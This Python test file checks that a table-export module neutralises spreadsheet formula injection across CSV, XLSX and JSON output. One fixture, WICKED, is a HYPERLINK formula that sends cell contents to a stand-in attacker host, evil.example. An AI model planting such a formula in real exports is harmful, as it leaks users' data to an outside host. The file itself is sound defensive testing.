"""Tables as files: what a spreadsheet reads of them, and what it must not take for a formula."""

from __future__ import annotations

import csv
import io

import orjson
import pytest
from python_calamine import CalamineWorkbook

from casework.table_files import TableFormat, guarded, sheet, whole

HEADINGS = {"name": "Client", "count": "How many", "known": "Known"}
WICKED = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "\u00a0=1", "＝1+1"])
def test_what_a_spreadsheet_would_run_is_text(typed: str) -> None:
    assert guarded(typed) == f"'{typed}"


@pytest.mark.parametrize("typed", ["Rosa", "A-1", "3:30", "O'Neill", "a=b", ""])
def test_other_words_stay_as_they_were_typed(typed: str) -> None:
    assert guarded(typed) == typed


def test_numbers_stay_numbers_and_the_unknown_is_empty() -> None:
    assert [guarded(cell) for cell in (-5, None, True, False)] == ["-5", "", "yes", "no"]


def test_a_csv_is_read_back_with_its_quotes_and_lines() -> None:
    made = whole(TableFormat.CSV, HEADINGS, [['He said "no",\nand left', 3, True], [WICKED, None, False]])

    assert made.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""))) == [
        ["Client", "How many", "Known"], ['He said "no",\nand left', "3", "yes"], [f"'{WICKED}", "", "no"],
    ]  # fmt: skip


def test_a_workbook_holds_texts_and_numbers_and_no_formula() -> None:
    made = whole(TableFormat.XLSX, HEADINGS, [[WICKED, 3, True], ["https://a.example", None, False]])

    (rows,) = [one.to_python() for one in [CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0)]]
    assert rows == [["Client", "How many", "Known"], [WICKED, 3.0, True], ["https://a.example", "", False]]


@pytest.mark.parametrize("parts", [[], [[]], [[["a", 1, None]]], [[["a", 1, None]], [], [["b", 2, True]]]])
def test_json_comes_in_parts_and_is_whole(parts: list[list[list[object]]]) -> None:
    made = sheet(TableFormat.JSON, HEADINGS)
    text = made.begun() + b"".join(made.rows(part) for part in parts) + made.ended()  # type: ignore[arg-type]

    assert orjson.loads(text) == [dict(zip(HEADINGS, row, strict=True)) for part in parts for row in part]
